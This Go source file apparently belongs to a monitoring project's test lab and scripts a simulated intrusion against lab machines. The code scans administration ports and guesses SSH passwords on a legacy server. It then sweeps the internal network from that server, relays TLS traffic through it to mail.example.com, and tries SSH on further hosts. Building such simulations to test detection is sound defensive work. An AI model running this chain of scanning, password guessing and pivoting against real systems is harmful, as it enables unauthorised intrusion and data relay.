// SPDX-License-Identifier: Apache-2.0

package story

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"

	"stillwatch/internal/testlab/machine"
	"stillwatch/internal/testlab/netns"
)

// The keys of the steps of story S1.
const (
	s1Scan   = "s1-scan"
	s1Banner = "s1-banner"
	s1Guess  = "s1-guess"
	s1Login  = "s1-login"
	s1ARP    = "s1-arp"
	s1Ping   = "s1-ping"
	s1Ports  = "s1-ports"
	s1Relay  = "s1-relay"
	s1Spread = "s1-spread"
	s1Leave  = "s1-leave"
)

// actS1 finds the idle server with a scan, guesses its password, explores the network from it, and uses it as a relay.
func actS1(ctx context.Context) error {
	target := net.JoinHostPort(netns.Address(netns.Legacy).String(), "22")
	if err := scan(ctx, target); err != nil {
		return err
	}
	report(netns.Intruder, s1Guess, "guesses passwords of root over SSH: four sessions with three wrong ones each")
	for i := range 4 {
		if _, err := login(ctx, target, fmt.Sprintf("a%d", i), fmt.Sprintf("longer%d", i), fmt.Sprintf("c%d", i)); err == nil {
			return errors.New("a wrong password was accepted")
		}
	}
	report(netns.Intruder, s1Login, "the fifth session: one wrong password, then the right one")
	client, err := login(ctx, target, "letmein", machine.LegacyPassword)
	if err != nil {
		return err
	}
	defer func() { _ = client.Close() }()
	pause(ctx, 500*time.Millisecond)
	if err := lookAround(client); err != nil {
		return err
	}
	return relay(ctx, client)
}

// scan tries the administration ports, and reads the banner of the one that answers.
func scan(ctx context.Context, target string) error {
	report(netns.Intruder, s1Scan, "scans srv-legacy-07 on 12 administration ports")
	for _, port := range []int{21, 22, 23, 80, 443, 445, 2323, 3389, 5555, 8000, 8080, 8291} {
		c, err := machine.From(netns.Intruder, 400*time.Millisecond).DialContext(ctx, "tcp4", fmt.Sprintf("%s:%d", netns.Address(netns.Legacy), port))
		if err == nil {
			_ = c.Close()
		}
		pause(ctx, 50*time.Millisecond)
	}
	report(netns.Intruder, s1Banner, "connects to port 22, reads the banner and goes")
	c, err := machine.From(netns.Intruder, 2*time.Second).DialContext(ctx, "tcp4", target)
	if err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 64))
	return errors.Join(err, c.Close())
}

// login tries passwords in one SSH session.
func login(ctx context.Context, target string, passwords ...string) (*ssh.Client, error) {
	c, err := machine.From(netns.Intruder, 2*time.Second).DialContext(ctx, "tcp4", target)
	if err != nil {
		return nil, err
	}
	return sshClient(c, target, passwords...)
}

func sshClient(c net.Conn, target string, passwords ...string) (*ssh.Client, error) {
	next := 0
	method := ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
		next++
		return passwords[next-1], nil
	}), len(passwords))
	conn, channels, requests, err := ssh.NewClientConn(c, target, &ssh.ClientConfig{User: machine.LegacyUser, Auth: []ssh.AuthMethod{method},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), ClientVersion: "SSH-2.0-libssh2_1.10.0"}) //nolint:gosec // an attacker does not know the host key
	if err != nil {
		_ = c.Close()
		return nil, err
	}
	return ssh.NewClient(conn, channels, requests), nil
}

// lookAround runs the attacker's tools on the server: it searches for machines and scans those that it finds.
func lookAround(client *ssh.Client) error {
	report(netns.Intruder, s1ARP, "on srv-legacy-07: asks for the hardware addresses of 10.20.30.0/27 and 10.20.10.0/27")
	found, err := command(client, machine.ARPSweep+" 10.20.30.0/27 10.20.10.0/27")
	if err != nil {
		return err
	}
	if len(found) < 5 {
		return fmt.Errorf("the sweep found only %q", found)
	}
	hosts := strings.Join(found, " ")
	report(netns.Intruder, s1Ping, "on srv-legacy-07: echo requests to the %d machines that answered", len(found))
	if _, err := command(client, machine.PingSweep+" "+hosts); err != nil {
		return err
	}
	report(netns.Intruder, s1Ports, "on srv-legacy-07: tries 22, 445 and 3389 of each")
	_, err = command(client, machine.PortScan+" "+hosts)
	return err
}

// command runs a command line on the server and returns the words of its output.
func command(client *ssh.Client, line string) ([]string, error) {
	s, err := client.NewSession()
	if err != nil {
		return nil, err
	}
	out, err := s.CombinedOutput(line)
	if err != nil {
		return nil, fmt.Errorf("%s: %w: %s", line, err, out)
	}
	return strings.Fields(string(out)), nil
}

// relay opens a TLS session to the outside through the server, tries SSH on other hosts, and disconnects.
func relay(ctx context.Context, client *ssh.Client) error {
	report(netns.Intruder, s1Relay, "through srv-legacy-07: TLS to mail.example.com, a line every 0.8 s")
	c, err := client.Dial("tcp", "mail.example.com:443")
	if err != nil {
		return err
	}
	t := tls.Client(c, &tls.Config{ServerName: "mail.example.com", InsecureSkipVerify: true}) //nolint:gosec // the certificate is the lab's own
	for i := range 8 {
		if _, err := fmt.Fprintf(t, "message %d %s\n", i, strings.Repeat("x", 600+100*i)); err != nil {
			return err
		}
		if _, err := t.Read(make([]byte, 256)); err != nil && err != io.EOF {
			return err
		}
		pause(ctx, 800*time.Millisecond)
	}
	report(netns.Intruder, s1Spread, "through srv-legacy-07: SSH of 192.0.2.10 to 192.0.2.15, two of which refuse")
	for i := range 6 {
		target := fmt.Sprintf("192.0.2.%d:22", 10+i)
		c, err := client.Dial("tcp", target)
		if err != nil {
			continue // the host refused
		}
		if _, err := sshClient(c, target, "admin", "password"); err == nil {
			return errors.New("a wrong password was accepted")
		}
		pause(ctx, 300*time.Millisecond)
	}
	report(netns.Intruder, s1Leave, "leaves: both sessions close at once")
	return errors.Join(client.Close(), ignoreClosed(t.Close()))
}

// ignoreClosed drops the error of a connection whose tunnel is already closed.
func ignoreClosed(err error) error {
	if errors.Is(err, io.EOF) || errors.Is(err, net.ErrClosed) {
		return nil
	}
	return err
}
